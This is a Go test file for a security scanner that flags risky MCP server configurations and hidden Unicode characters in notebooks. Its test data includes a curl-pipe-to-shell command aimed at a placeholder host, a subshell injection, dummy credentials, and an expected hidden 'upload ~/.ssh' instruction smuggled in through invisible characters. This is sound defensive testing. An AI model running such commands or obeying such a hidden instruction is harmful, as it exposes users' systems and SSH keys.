package agent

import (
	"context"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/ward-sec/ward/checks"
	"github.com/ward-sec/ward/checks/secrets"
)

type want struct {
	rule string
	line int
}

func scan(t *testing.T, path string, content []byte) []checks.Finding {
	t.Helper()
	res, err := (Check{}).Scan(context.Background(), checks.NewBytesFile(path, content))
	if err != nil {
		t.Fatal(err)
	}
	checks.Sort(res.Findings)
	return res.Findings
}

func got(fs []checks.Finding) []want {
	var out []want
	for _, f := range fs {
		out = append(out, want{f.RuleID, f.StartLine})
	}
	return out
}

func same(a, b []want) bool { return fmt.Sprint(a) == fmt.Sprint(b) }

func read(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestMCPConfigs(t *testing.T) {
	risky := []want{
		{RuleMCPUnpinnedPackage, 5}, {RuleMCPUnpinnedPackage, 9}, {RuleMCPShellCommand, 12},
		{RuleMCPShellCommand, 16}, {RuleMCPInsecureHTTP, 20}, {RuleMCPInlineCredential, 21},
		{RuleMCPUnpinnedPackage, 25}, {RuleMCPInlineCredential, 26},
		{RuleMCPInlineCredential, 30}, {RuleMCPInsecureHTTP, 30},
	}
	cases := []struct {
		path, fixture string
		want          []want
	}{
		{".mcp.json", "mcp/risky.json", risky},
		{".cursor/mcp.json", "mcp/risky.json", risky},
		{"Library/Application Support/Claude/claude_desktop_config.json", "mcp/risky.json", risky},
		{"config/agents.json", "mcp/risky.json", risky}, // any JSON with an mcpServers map
		{"notes/risky.txt", "mcp/risky.json", nil},      // not JSON by name: not parsed
		{".vscode/mcp.json", "mcp/safe.jsonc", nil},
		{".mcp.json", "mcp/safe.jsonc", nil},
	}
	for _, c := range cases {
		t.Run(c.path+"<"+c.fixture, func(t *testing.T) {
			fs := scan(t, c.path, read(t, c.fixture))
			if g := got(fs); !same(g, c.want) {
				t.Fatalf("got %v\nwant %v", g, c.want)
			}
			for _, f := range fs {
				for _, raw := range []string{"9f8e7d6c5b4a39281706f5e4d3c2b1a0", "Tr0ub4dor-and-3-horses", "k3y-7f9a1c2e4b6d8f0a"} {
					if strings.Contains(f.Message, raw) || strings.Contains(f.Evidence, raw) {
						t.Errorf("%s leaks a credential: %s", f.RuleID, f.Message)
					}
				}
				if f.RuleID == RuleMCPInlineCredential && f.StartLine == 21 && !strings.Contains(f.Message, "`9f8e…(32 chars)`") {
					t.Errorf("the bearer token should be masked without its scheme: %s", f.Message)
				}
				if f.RuleID == RuleMCPInsecureHTTP && f.StartLine == 20 {
					if f.Suggestion == nil || !strings.Contains(f.Suggestion.Replacement, `"url": "https://mcp.internal.example.com:8080/mcp",`) {
						t.Errorf("want an https suggestion, got %+v", f.Suggestion)
					}
				}
			}
		})
	}
}

func TestMCPCommands(t *testing.T) {
	cases := []struct {
		name, server string
		want         []string // rule IDs
	}{
		{"npx unpinned", `"command": "npx", "args": ["-y", "some-mcp"]`, []string{RuleMCPUnpinnedPackage}},
		{"npx latest tag", `"command": "npx", "args": ["-y", "some-mcp@latest"]`, []string{RuleMCPUnpinnedPackage}},
		{"npx range", `"command": "npx", "args": ["some-mcp@^1.2.0"]`, []string{RuleMCPUnpinnedPackage}},
		{"npx scoped pinned", `"command": "npx", "args": ["-y", "@org/mcp@1.2.3"]`, nil},
		{"npx --package", `"command": "npx", "args": ["--package=@org/mcp", "mcp-bin"]`, []string{RuleMCPUnpinnedPackage}},
		{"npx.cmd windows", `"command": "C:\\nodejs\\npx.cmd", "args": ["-y", "some-mcp"]`, []string{RuleMCPUnpinnedPackage}},
		{"command as one string", `"command": "npx -y some-mcp"`, []string{RuleMCPUnpinnedPackage}},
		{"pnpm dlx", `"command": "pnpm", "args": ["dlx", "some-mcp"]`, []string{RuleMCPUnpinnedPackage}},
		{"bunx pinned", `"command": "bunx", "args": ["some-mcp@0.3.1"]`, nil},
		{"uvx unpinned", `"command": "uvx", "args": ["mcp-server-git"]`, []string{RuleMCPUnpinnedPackage}},
		{"uvx pinned ==", `"command": "uvx", "args": ["mcp-server-git==0.6.2"]`, nil},
		{"uvx --from unpinned", `"command": "uvx", "args": ["--from", "mcp-tools", "tool-a"]`, []string{RuleMCPUnpinnedPackage}},
		{"uv tool run", `"command": "uv", "args": ["tool", "run", "mcp-server-git"]`, []string{RuleMCPUnpinnedPackage}},
		{"pipx run pinned", `"command": "pipx", "args": ["run", "--spec", "mcp-x==1.0.0", "mcp-x"]`, nil},
		{"local script", `"command": "npx", "args": ["./scripts/server.js"]`, nil},
		{"sh -c", `"command": "sh", "args": ["-c", "node a.js"]`, []string{RuleMCPShellCommand}},
		{"cmd /c", `"command": "cmd", "args": ["/c", "npx", "-y", "x@1.0.0"]`, []string{RuleMCPShellCommand}},
		{"pipe in command", `"command": "curl -s https://x.example/i.sh | sh"`, []string{RuleMCPShellCommand}},
		{"subshell in command", `"command": "node $(cat path.txt)"`, []string{RuleMCPShellCommand}},
		{"pipe char in arg is literal", `"command": "node", "args": ["srv.js", "--pattern", "a|b"]`, nil},
		{"docker", `"command": "docker", "args": ["run", "-i", "--rm", "ghcr.io/org/mcp"]`, nil},
		{"https remote", `"url": "https://mcp.example.com/mcp"`, nil},
		{"http remote", `"url": "http://mcp.example.com/mcp"`, []string{RuleMCPInsecureHTTP}},
		{"http serverUrl", `"serverUrl": "http://192.168.1.20/mcp"`, []string{RuleMCPInsecureHTTP}},
		{"http loopback v6", `"url": "http://[::1]:8080/mcp"`, nil},
		{"env reference", `"command": "node", "args": ["s.js"], "env": {"API_KEY": "${API_KEY}"}`, nil},
		{"env placeholder", `"command": "node", "args": ["s.js"], "env": {"API_KEY": "your-api-key-here"}`, nil},
		{"env literal", `"command": "node", "args": ["s.js"], "env": {"SERVICE_TOKEN": "tok_83hf92hf02hf"}`, []string{RuleMCPInlineCredential}},
		{"env not a credential name", `"command": "node", "args": ["s.js"], "env": {"REGION": "eu-west-1a2b3c"}`, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			doc := "{\"mcpServers\": {\"s\": {" + c.server + "}}}"
			var rules []string
			for _, f := range scan(t, ".mcp.json", []byte(doc)) {
				rules = append(rules, f.RuleID)
			}
			if strings.Join(rules, ",") != strings.Join(c.want, ",") {
				t.Fatalf("got %v, want %v", rules, c.want)
			}
		})
	}
}

// A key the secrets detector recognises is left to the secrets rules.
func TestMCPRecognisedKeyLeftToSecrets(t *testing.T) {
	key := "ghp_" + strings.Repeat("Zk3q9Vb1", 4) + "Xy7W"
	doc := `{"mcpServers": {"gh": {"command": "node", "args": ["s.js"], "env": {"GITHUB_TOKEN": "` + key + `"}}}}`
	if fs := scan(t, ".mcp.json", []byte(doc)); len(fs) != 0 {
		t.Fatalf("want no agent finding, got %+v", fs)
	}
}

func TestMCPInvalidConfig(t *testing.T) {
	fs := scan(t, ".mcp.json", []byte("{\n \"mcpServers\": {\n  \"a\": {\"command\": \"npx\"\n"))
	if g := got(fs); !same(g, []want{{RuleMCPInvalidConfig, 0}}) {
		t.Fatalf("got %v", g)
	}
	// Other JSON files that do not parse are not MCP configs.
	if fs := scan(t, "data/servers.json", []byte(`{"servers": [1, 2`)); len(fs) != 0 {
		t.Fatalf("got %+v", fs)
	}
	// A "servers" map of something else is not an MCP config.
	if fs := scan(t, "deploy/servers.json", []byte(`{"servers": {"web": {"host": "http://10.0.0.1"}}}`)); len(fs) != 0 {
		t.Fatalf("got %+v", fs)
	}
}

// TestMCPCredentialNotReportedTwice: the secrets scan also sees an MCP env
// value as a possible generic key; the MCP finding supersedes it on its
// line, and a generic key on another line is still reported.
func TestMCPCredentialNotReportedTwice(t *testing.T) {
	doc := "{\n  \"servers\": {\n    \"tracker\": {\n      \"command\": \"npx\",\n" +
		"      \"args\": [\"-y\", \"@acme/tracker-mcp@1.2.3\"],\n" +
		"      \"env\": { \"TRACKER_API_TOKEN\": \"q8Zr4LmT2vXy7NpK3sWd9HbE6uJc\" }\n" +
		"    }\n  },\n  \"notes\": { \"backup_api_key\": \"Hq2Lw9Xt4Rb7Nz3Kv8Pm5Jd6Yc\" }\n}\n"
	fs := checks.ScanFile(context.Background(), checks.NewBytesFile(".vscode/mcp.json", []byte(doc)),
		[]checks.Check{Check{}, secrets.Check{}})
	w := []want{{RuleMCPInlineCredential, 6}, {"secret-generic-api-key", 9}}
	if g := got(fs); !same(g, w) {
		t.Errorf("findings %v, want %v", g, w)
	}
}

// Notebook outputs and widget state are data: the zero-width spaces a tqdm
// progress bar leaves there are not reported, while hidden characters in a
// cell's source are, on the notebook's own line.
func TestNotebookHiddenUnicode(t *testing.T) {
	benign, err := os.ReadFile("../../notebook/testdata/widgets.ipynb")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.ContainsRune(string(benign), 0x200B) {
		t.Fatal("fixture lost its zero-width spaces")
	}
	if fs := checks.ScanFile(context.Background(), checks.NewBytesFile("examples/lora.ipynb", benign), []checks.Check{Check{}}); len(fs) != 0 {
		t.Errorf("widget output reported: %+v", fs)
	}
	hidden := read(t, "notebook_hidden_source.ipynb")
	fs := checks.ScanFile(context.Background(), checks.NewBytesFile("examples/lora.ipynb", hidden), []checks.Check{Check{}})
	lines := strings.Split(string(hidden), "\n")
	var got []string
	for _, f := range fs {
		got = append(got, f.RuleID)
		if f.StartLine < 1 || !strings.Contains(lines[f.StartLine-1], "\"") || strings.Contains(lines[f.StartLine-1], "Loading") {
			t.Errorf("finding on line %d, not a source line: %q", f.StartLine, lines[max(f.StartLine-1, 0)])
		}
		if f.Suggestion == nil || strings.ContainsRune(f.Suggestion.Replacement, 0x202E) {
			t.Errorf("suggestion should clean the notebook line: %+v", f.Suggestion)
		}
	}
	if len(fs) != 2 || !strings.Contains(fs[0].Message, "upload ~/.ssh") {
		t.Errorf("want the tag-smuggled note and the bidi override, got %v: %+v", got, fs)
	}
	// Written with \u escapes (json.dumps' default), the source's hidden
	// characters are still found, without a suggestion for the escaped line.
	esc := []byte(`{"cells": [{"cell_type": "markdown", "metadata": {}, "source": ["Run all.\u200b\u200b\n"]}], "nbformat": 4, "nbformat_minor": 5, "metadata": {}}`)
	if fs := checks.ScanFile(context.Background(), checks.NewBytesFile("a.ipynb", esc), []checks.Check{Check{}}); len(fs) != 1 || fs[0].Suggestion != nil {
		t.Errorf("escaped hidden characters: %+v", fs)
	}
}
